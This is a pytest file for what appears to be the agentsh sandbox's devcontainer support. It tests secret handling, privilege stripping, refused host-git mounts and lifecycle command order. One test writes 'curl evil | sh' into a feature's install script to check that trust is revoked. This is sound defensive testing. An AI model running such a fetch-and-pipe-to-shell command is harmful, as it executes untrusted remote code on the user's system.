"""A trusted devcontainer.json in the sandbox spec and its lifecycle, against the recording engine fake."""

import json

import pytest

from agentsh.base.state import Store
from agentsh.host import project
from agentsh.policy import config, trust
from agentsh.sandbox import lifecycle as sandbox
from agentsh.sandbox import spec as specs
from tests.conftest import git_init
from tests.unit.fake_engine import fake_engine


def allowed(root, data, files=None):
    (root / ".devcontainer").mkdir(exist_ok=True)
    path = root / ".devcontainer" / "devcontainer.json"
    path.write_text(json.dumps(data))
    for rel, text in (files or {}).items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    trust.allow(Store(), str(path))
    return project.find(str(root))


@pytest.fixture
def repo(tmp_path, monkeypatch):
    monkeypatch.setenv("DC_TOKEN", "s3cr3t-value")
    return git_init(tmp_path / "repo")


def test_no_host_value_lands_in_the_run_arguments(repo):
    proj = allowed(repo, {"image": "ghcr.io/o/dev:1", "containerEnv": {"TOKEN": "${localEnv:DC_TOKEN}", "A": "1"},
                          "remoteEnv": {"PATH": "${containerEnv:PATH}:/opt/x", "GONE": None},
                          "mounts": ["source=cache,target=/cache,type=volume", "type=tmpfs,target=/scratch"],
                          "runArgs": ["--add-host=db:127.0.0.1", "--privileged"]})
    cfg = config.load(proj)
    engine, _ = fake_engine()
    want = sandbox.spec(proj, cfg, engine)
    args = want.full_run_args()
    assert not any("s3cr3t" in a for a in args)
    assert want.exec_env == {"TOKEN": "s3cr3t-value"}  # given to each command through the secrets tmpfs
    assert "A=1" in args and "--unsetenv=GONE" in args and "--add-host=db:127.0.0.1" in args
    assert "--privileged" not in args
    assert f"agentsh-dc-{proj.key}-cache:/cache:U" in args  # a volume per project, never another's
    assert "/scratch:rw,nosuid,nodev,exec,mode=1777" in args
    assert want.late_env == {"PATH": "${containerEnv:PATH}:/opt/x"} and want.pull
    late = want.full_run_args({"PATH": "/usr/bin:/opt/x"})
    assert late[late.index("PATH=/usr/bin:/opt/x") - 1] == "-e"


def test_the_per_command_env_goes_with_the_credentials(repo, monkeypatch):
    from agentsh.app import session

    proj = allowed(repo, {"image": "ghcr.io/o/dev:1", "remoteEnv": {"TOKEN": "${localEnv:DC_TOKEN}"}})
    cfg = config.load(proj)
    seen = {}
    monkeypatch.setattr(session.execute, "run", lambda engine, name, cmd, workdir, names, plain, tty, recover,
                        token: seen.setdefault("names", names) and 0)
    monkeypatch.setattr(session, "_server", lambda engine, name, *local: None)
    from agentsh.creds import delivery

    monkeypatch.setattr(delivery, "write_files", lambda engine, name, files, recover=None: seen.setdefault("files", files))
    monkeypatch.setattr(sandbox, "ensure_running", lambda *a: None)
    engine, _ = fake_engine()
    session.run(proj, cfg, engine, Store(), session.Request(["true"], proj.root), lambda m: None)
    (env_file,) = seen["files"]
    assert b"export TOKEN='s3cr3t-value'" in env_file.value  # through stdin into the tmpfs
    assert "TOKEN" not in seen["names"]


def test_lifecycle_commands_run_in_order_once_and_host_values_go_by_pipe(repo):
    proj = allowed(repo, {"image": "ghcr.io/o/dev:1",
                          "onCreateCommand": "echo one", "updateContentCommand": ["echo", "two"],
                          "postCreateCommand": {"a": "echo ${localEnv:DC_TOKEN}", "b": "echo b"},
                          "postStartCommand": "echo start", "postAttachCommand": "echo attach"})
    cfg = config.load(proj)
    engine, runner = fake_engine(images=["ghcr.io/o/dev:1"])
    notes = []
    sandbox.up(proj, cfg, engine, Store(), notify=notes.append, attach=True)
    execs = [c for c in runner.calls if c[0] == "exec"]
    words = [" ".join(c) for c in execs]
    assert not any("s3cr3t" in w for w in words)  # the host value went through stdin, into the tmpfs
    ran = [w.split(proj.sandbox + " ", 1)[1] for w in words if "-w" in w and "-i" not in w]
    assert ran[:2] == ["/bin/sh -c echo one", "echo two"]
    assert sorted(ran[2:4]) == ["/bin/sh -c echo b", ran[2] if ran[2].startswith("sh /run") else ran[3]]
    assert any(r.startswith("sh /run/agentsh/secrets/lifecycle-") for r in ran[2:4])
    assert ran[4:] == ["/bin/sh -c echo start", "/bin/sh -c echo attach"]
    runner.calls.clear()
    sandbox.up(proj, cfg, engine, Store(), notify=notes.append)  # running, unchanged: nothing runs again
    assert not [c for c in runner.calls if c[0] == "exec"]
    runner.containers[proj.sandbox]["State"]["Status"] = "exited"
    sandbox.up(proj, cfg, engine, Store(), notify=notes.append)  # a start runs postStartCommand only
    ran = [" ".join(c).split(proj.sandbox + " ", 1)[1] for c in runner.calls if c[0] == "exec"]
    assert ran == ["/bin/sh -c echo start"]


def test_a_failing_create_command_removes_the_sandbox(repo):
    proj = allowed(repo, {"image": "ghcr.io/o/dev:1", "postCreateCommand": "false"})
    engine, runner = fake_engine(images=["ghcr.io/o/dev:1"])
    real = runner.__call__

    def failing(argv, input=None, capture=True, timeout=None):
        if argv[1] == "exec" and argv[-1] == "false":
            runner.calls.append(list(argv[1:]))
            return 1, "", ""
        return real(argv, input=input, capture=capture, timeout=timeout)

    engine.runner = failing
    from agentsh.base.errors import AgentshError

    with pytest.raises(AgentshError, match="postCreateCommand 'false' failed with exit status 1"):
        sandbox.up(proj, config.load(proj), engine, Store())
    assert proj.sandbox not in runner.containers


def test_a_registry_image_is_pulled_when_missing_unless_config_says_never(repo, user_config):
    proj = allowed(repo, {"image": "ghcr.io/o/dev:1"})
    engine, runner = fake_engine(pull_ok=True)
    notes = []
    sandbox.up(proj, config.load(proj), engine, Store(), notify=notes.append)
    assert ["pull", "ghcr.io/o/dev:1"] in runner.calls
    assert any("pulling ghcr.io/o/dev:1" in n for n in notes)
    user_config('pull = "never"\n')
    assert not sandbox.spec(proj, config.load(proj), engine).pull


def test_the_default_image_is_never_pulled(repo):
    proj = allowed(repo, {"remoteUser": "root"})
    engine, runner = fake_engine(pull_ok=True)
    assert not sandbox.spec(proj, config.load(proj), engine).pull


def test_build_target_options_and_pull_reach_the_engine(repo):
    proj = allowed(repo, {"build": {"dockerfile": "Dockerfile", "target": "dev", "options": ["--no-cache"],
                                    "cacheFrom": ["ghcr.io/o/cache"], "args": {"U": "${localEnv:USER:me}"}}},
                   {".devcontainer/Dockerfile": "FROM ghcr.io/o/base:1 AS dev\n"})
    engine, runner = fake_engine()
    sandbox.up(proj, config.load(proj), engine, Store())
    build = runner.build_args()
    assert "--target=dev" in build and "--no-cache" in build and "--cache-from=ghcr.io/o/cache" in build
    assert "--pull=missing" in build  # its FROM is pulled when missing


def test_local_features_are_built_into_a_layer_and_covered_by_trust(repo):
    feature = {".devcontainer/hello/devcontainer-feature.json":
               json.dumps({"id": "hello", "options": {"greeting": {"type": "string", "default": "hey"}},
                           "containerEnv": {"HELLO_HOME": "/opt/hello"}}),
               ".devcontainer/hello/install.sh": "#!/bin/sh\necho \"$GREETING\" > /hello\n",
               ".devcontainer/first/devcontainer-feature.json": json.dumps({"id": "first"}),
               ".devcontainer/first/install.sh": "#!/bin/sh\ntrue\n"}
    (repo / ".devcontainer").mkdir()
    feature[".devcontainer/hello/devcontainer-feature.json"] = json.dumps(
        {"id": "hello", "installsAfter": ["./first"], "options": {"greeting": {"type": "string", "default": "hey"}},
         "containerEnv": {"HELLO_HOME": "/opt/hello"}})
    proj = allowed(repo, {"image": "localhost/base:1", "features": {"./hello": {"greeting": "hi"}, "./first": {}}},
                   feature)
    cfg = config.load(proj)
    dev = cfg.devcontainer
    assert [f.id for f in dev.features] == ["first", "hello"]  # installsAfter
    assert dev.features[1].options == {"GREETING": "hi"}
    engine, runner = fake_engine(images=["localhost/base:1"])
    want = sandbox.spec(proj, cfg, engine)
    assert want.image.startswith(f"localhost/agentsh-dc-{proj.key}:")
    from agentsh.sandbox.devcontainer_run import feature_recipe

    recipe, files = feature_recipe("localhost/base:1", dev.features, None, "")
    assert "FROM localhost/base:1" in recipe and 'ENV HELLO_HOME="/opt/hello"' in recipe
    assert recipe.index("0-first") < recipe.index("1-hello")
    env = dict((r, d) for r, _, d in files)["1-hello/devcontainer-features.env"].decode()
    assert "GREETING='hi'" in env and "_REMOTE_USER='root'" in env
    with_ca, _ = feature_recipe("localhost/base:1", dev.features, None, "", ca=True)
    assert "RUN --mount=type=secret,id=ca_bundle,target=/run/agentsh/ca-bundle.crt cd" in with_ca
    assert "export SSL_CERT_FILE=/run/agentsh/ca-bundle.crt" in with_ca
    # an edit of the feature's script makes the project untrusted again
    (repo / ".devcontainer" / "hello" / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert config.load(proj).devcontainer is None


def test_compose_falls_back_to_the_users_image_with_nothing_applied(repo):
    proj = allowed(repo, {"dockerComposeFile": "compose.yml", "service": "app", "remoteUser": "node",
                          "forwardPorts": [3306], "postCreateCommand": "npm ci"})
    cfg = config.load(proj)
    engine, _ = fake_engine()
    want = sandbox.spec(proj, cfg, engine)
    assert want.image == config.DEFAULT_IMAGE and not want.lifecycle
    assert not any(a.startswith("--user=node") for a in want.run_args) and "-p" not in want.run_args
    assert any("nothing of this file is applied" in n for n in cfg.notices)


def test_dry_run_plan_has_the_documented_keys(repo):
    proj = allowed(repo, {"image": "ghcr.io/o/dev:1", "forwardPorts": [3000], "capAdd": ["SYS_ADMIN"],
                          "postCreateCommand": "make", "customizations": {}})
    cfg = config.load(proj)
    engine, runner = fake_engine()
    plan = specs.plan(sandbox.spec(proj, cfg, engine), cfg)
    assert set(plan) == {"sandbox", "project", "image", "isolation", "pull", "build", "user", "env", "env_per_command", "mounts",
                         "ports", "features", "lifecycle", "wait_for", "workdir", "devcontainer", "not_applied",
                         "ignored", "notices", "run_args"}
    assert plan["image"] == "ghcr.io/o/dev:1" and plan["pull"] is True
    assert plan["lifecycle"] == {"postCreateCommand": [{"name": None, "argv": ["/bin/sh", "-c", "make"],
                                                       "host_values": []}]}
    assert plan["not_applied"] == [{"property": "capAdd SYS_ADMIN",
                                    "why": "adds capabilities; config cap_add is yours to set"}]
    assert plan["ignored"] == [{"property": "customizations", "why": "editor settings"}]
    assert plan["ports"][0].endswith(":3000/tcp")
    assert not [c for c in runner.calls if c[0] in ("run", "pull", "build")]  # nothing made


def test_a_named_config_is_listed_chosen_allowed_and_planned(repo, user_config):
    from tests.conftest import ab

    for name, image in (("python", "ghcr.io/o/py:1"), ("node", "ghcr.io/o/node:1")):
        (repo / ".devcontainer" / name).mkdir(parents=True)
        (repo / ".devcontainer" / name / "devcontainer.json").write_text(
            json.dumps({"image": image, "postCreateCommand": "cd ${containerWorkspaceFolder} && make"}))
    status = json.loads(ab("ab-status", "--json", "--no-engine", str(repo), check=True).stdout)
    assert [d["name"] for d in status["devcontainers"]] == ["node", "python"] and status["devcontainer"] is None
    assert "none in use" in ab("ab-status", "--no-engine", str(repo), check=True).stdout.decode()
    plain = ab("ab-up", str(repo), "--dry-run", "--json", check=True)
    assert b"several devcontainer configs (node, python)" in plain.stderr
    ab("ab-allow", str(repo), "--devcontainer", "python", check=True)
    proc = ab("ab-up", str(repo), "--dry-run", "--json", "--devcontainer", "python", check=True)
    plan = json.loads(proc.stdout)
    assert plan["image"] == "ghcr.io/o/py:1" and plan["pull"] is True
    assert plan["lifecycle"]["postCreateCommand"][0]["argv"][-1] == f"cd {repo} && make"
    assert plan["devcontainer"]["config"] == "python"
    text = ab("ab-up", str(repo), "--dry-run", "--devcontainer", "python", check=True).stdout.decode()
    assert "ghcr.io/o/py:1 (pulled if missing)" in text and f"cd {repo} && make" in text
    user_config('devcontainer = "python"\n')  # the config key chooses too
    status = json.loads(ab("ab-status", "--json", "--no-engine", str(repo), check=True).stdout)
    assert status["devcontainer"].endswith("python/devcontainer.json") and status["trust"] == "allowed"


def test_a_host_value_in_a_build_arg_goes_by_name_not_on_argv(repo, monkeypatch):
    proj = allowed(repo, {"build": {"dockerfile": "Dockerfile", "args": {"TOKEN": "${localEnv:DC_TOKEN}", "V": "1"}}},
                   {".devcontainer/Dockerfile": "FROM x\nARG TOKEN\n"})
    engine, runner = fake_engine()
    seen = {}
    real = runner.__call__

    def recording(argv, input=None, capture=True, timeout=None):
        if argv[1] == "build":
            import os

            seen["TOKEN"] = os.environ.get("TOKEN")
        return real(argv, input=input, capture=capture, timeout=timeout)

    engine.runner = recording
    sandbox.up(proj, config.load(proj), engine, Store())
    build = runner.build_args()
    assert "--build-arg=TOKEN" in build and "V=1" in build and not any("s3cr3t" in a for a in build)
    assert seen["TOKEN"] == "s3cr3t-value"  # in the engine's environment for the build only


def test_mounts_that_would_reach_the_host_git_dir_are_refused(repo):
    from agentsh.policy import devcontainer

    data = {"mounts": [f"source={repo}/.git,target=/g,type=bind", f"source={repo},target=/w,type=bind",
                       f"source={repo.parent},target=/up,type=bind", "source=v,target=${containerWorkspaceFolder}/.git,type=volume",
                       f"source={repo}/data,target=/data,type=bind"]}
    d = devcontainer.Devcontainer(str(repo / ".devcontainer.json"), data, str(repo), {})
    assert d.mounts == [f"{repo}/data:/data"] and d.volumes == []
    assert [why for _, why in d.not_applied] == [
        "would give the sandbox the project's host git dir to write (agentsh mounts the project itself)"] * 3 + [
        "would cover the sandbox's own git dir"]


def test_commands_after_wait_for_run_in_the_background(repo):
    proj = allowed(repo, {"image": "ghcr.io/o/dev:1", "onCreateCommand": "echo one", "postCreateCommand": ["make", "x"],
                          "postStartCommand": "echo start", "waitFor": "onCreateCommand"})
    engine, runner = fake_engine(images=["ghcr.io/o/dev:1"])
    notes = []
    sandbox.up(proj, config.load(proj), engine, Store(), notify=notes.append)
    execs = [c for c in runner.calls if c[0] == "exec"]
    assert execs[0][-3:] == ["/bin/sh", "-c", "echo one"] and "-d" not in execs[0]
    assert all("-d" in c for c in execs[1:]) and len(execs) == 3
    assert execs[1][-2:] == ["make", "x"] and "> /tmp/agentsh-postCreateCommand.log 2>&1" in " ".join(execs[1])
    assert any("in the background, after waitFor onCreateCommand" in n for n in notes)
